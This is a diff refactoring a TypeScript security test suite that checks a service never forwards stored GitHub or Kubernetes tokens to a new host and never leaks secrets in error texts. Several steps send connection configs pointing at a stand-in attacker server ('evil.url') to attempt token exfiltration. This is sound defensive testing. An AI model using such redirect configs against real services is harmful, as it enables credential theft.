@@ -67,6 +67,9 @@ serviceTest("security: what a write, ingest or read key (or no key) cannot do", 
     if (k) headers.set("authorization", `Bearer ${k.key}`);
     return pl.raw.request(path, { ...init, headers });
   };
+  /** POST /api/connections/test as the write key: what a connection would reach, before it is saved. */
+  const tryConnection = (body: Record<string, unknown>) =>
+    as(write, "/api/connections/test", json("POST", body));
   try {
     // A real connection, made by the admin, holding a real token.
     const created = await pl.createConnection({
@@ -151,15 +154,11 @@ serviceTest("security: what a write, ingest or read key (or no key) cannot do", 
     );
 
     await t.step("2. a stored token is never sent to a new host without being entered again", async () => {
-      const test = await as(
-        write,
-        "/api/connections/test",
-        json("POST", {
-          connector: "github",
-          id: "prod-gh",
-          config: { baseUrl: `${evil.url}/api/v3` },
-        }),
-      );
+      const test = await tryConnection({
+        connector: "github",
+        id: "prod-gh",
+        config: { baseUrl: `${evil.url}/api/v3` },
+      });
       assert.equal(test.status, 400);
       assert.match((await test.json()).error, /GitHub Enterprise API URL.*Token.*enter it again/);
       const put = await as(
@@ -170,15 +169,11 @@ serviceTest("security: what a write, ingest or read key (or no key) cannot do", 
       assert.equal(put.status, 400);
       assert.equal(evil.seen.length, 0);
       // With its own token the caller may point anywhere: it only sends what it typed.
-      const own = await as(
-        write,
-        "/api/connections/test",
-        json("POST", {
-          connector: "github",
-          id: "prod-gh",
-          config: { baseUrl: `${evil.url}/api/v3`, token: "attackers-own-token" },
-        }),
-      );
+      const own = await tryConnection({
+        connector: "github",
+        id: "prod-gh",
+        config: { baseUrl: `${evil.url}/api/v3`, token: "attackers-own-token" },
+      });
       assert.equal(own.status, 200);
       assert.ok(evil.seen.length > 0);
       assert.ok(
@@ -189,14 +184,10 @@ serviceTest("security: what a write, ingest or read key (or no key) cannot do", 
     });
 
     await t.step("4. error texts name the failure, never the upstream's body or headers", async () => {
-      const res = await as(
-        write,
-        "/api/connections/test",
-        json("POST", {
-          connector: "github",
-          config: { repositories: "o/r", baseUrl: `${evil.url}/api/v3` },
-        }),
-      );
+      const res = await tryConnection({
+        connector: "github",
+        config: { repositories: "o/r", baseUrl: `${evil.url}/api/v3` },
+      });
       const body = await res.text();
       assert.equal(JSON.parse(body).ok, false);
       assert.match(JSON.parse(body).message, /HTTP 500 Internal Server Error \(127\.0\.0\.1:\d+\)/);
@@ -216,14 +207,10 @@ serviceTest("security: what a write, ingest or read key (or no key) cannot do", 
           "contexts: [{name: x, context: {cluster: c, user: u}}]",
           "current-context: x",
         ].join("\n");
-        const res = await as(
-          write,
-          "/api/connections/test",
-          json("POST", {
-            connector: "kubernetes",
-            config: { auth: "kubeconfig", kubeconfig },
-          }),
-        );
+        const res = await tryConnection({
+          connector: "kubernetes",
+          config: { auth: "kubeconfig", kubeconfig },
+        });
         const answer = await res.json();
         assert.equal(answer.ok, false);
         assert.match(answer.message, /inline data.*token-file/);
@@ -237,17 +224,13 @@ serviceTest("security: what a write, ingest or read key (or no key) cannot do", 
           }),
         );
         assert.equal(create.status, 400, "refused on create too, by the connector's own check");
-        const broken = await as(
-          write,
-          "/api/connections/test",
-          json("POST", {
-            connector: "kubernetes",
-            config: {
-              auth: "kubeconfig",
-              kubeconfig: "users:\n- user:\n    token: s3cr3t-k8s-canary\n   x: [",
-            },
-          }),
-        );
+        const broken = await tryConnection({
+          connector: "kubernetes",
+          config: {
+            auth: "kubeconfig",
+            kubeconfig: "users:\n- user:\n    token: s3cr3t-k8s-canary\n   x: [",
+          },
+        });
         const text = await broken.text();
         assert.match(text, /not valid YAML/);
         assert.ok(!text.includes("s3cr3t-k8s-canary"));
